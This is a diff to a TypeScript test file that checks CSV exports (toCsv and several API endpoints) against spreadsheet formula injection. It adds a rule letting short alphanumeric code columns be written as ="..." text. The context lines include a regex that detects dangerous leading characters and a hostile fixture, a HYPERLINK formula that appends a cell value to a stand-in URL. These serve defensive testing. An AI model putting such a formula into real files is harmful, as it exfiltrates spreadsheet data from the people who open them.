@@ -20,6 +20,9 @@ const fx = (path: string) => fileURLToPath(new URL(`../fixtures/${path}`, import
 const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 /** A number as the CSV writes it (decimal comma): the only cells allowed to start with `-`. */
 const NUMBER = /^-?\d+(,\d+)?$/;
+/** A code kept as text for spreadsheets: a constant formula of letters and digits only, the only cells starting with `=`. */
+const CODE_TEXT = /^="[0-9A-Za-z]{1,20}"$/;
+const SAFE = new RegExp(`${NUMBER.source}|${CODE_TEXT.source}`);
 
 const HOSTILE = {
   pharmacyA: '=HYPERLINK("http://example.invalid/?x="&A1;"clic")',
@@ -57,6 +60,11 @@ describe('toCsv', () => {
       ["'\rx", 'ok'],
     ]);
     expect(csv).toContain('"\'=1+1";-1,5\r\n'); // text quoted, numbers bare
+  });
+  it('writes the code columns as ="…" text only for letters and digits; anything else in them is escaped text', () => {
+    const csv = toCsv(['code', 'nom'], [['01234', '01234'], ['=1+1', 'x'], ['2A004', '-1'], [null, 'y']], { codeColumns: ['code'] });
+    const rows = parseCsv(csv, { delimiter: ';', bom: true }) as string[][];
+    expect(rows).toEqual([['code', 'nom'], ['="01234"', '01234'], ["'=1+1", 'x'], ['="2A004"', "'-1"], ['', 'y']]);
   });
 });
 
@@ -100,7 +108,7 @@ describeEachBackend('CSV exports hold no live formula', (backend) => {
     expect(r.status).toBe(200);
     const rows = parseCsv(Buffer.from(await r.arrayBuffer()).toString('utf8'), { delimiter: ';', bom: true }) as string[][];
     expect(rows.length).toBeGreaterThan(1);
-    for (const row of rows) for (const cell of row) if (DANGEROUS.test(cell)) expect(cell, `${path}: ${JSON.stringify(row)}`).toMatch(NUMBER);
+    for (const row of rows) for (const cell of row) if (DANGEROUS.test(cell)) expect(cell, `${path}: ${JSON.stringify(row)}`).toMatch(SAFE);
     const text = rows.flat().join('\n');
     const expected = {
       '/api/pharmacies.csv': [HOSTILE.pharmacyA.replace(/;/g, ','), HOSTILE.pharmacyB, HOSTILE.pharmacyC.trim(), HOSTILE.cptsA, HOSTILE.cptsB],
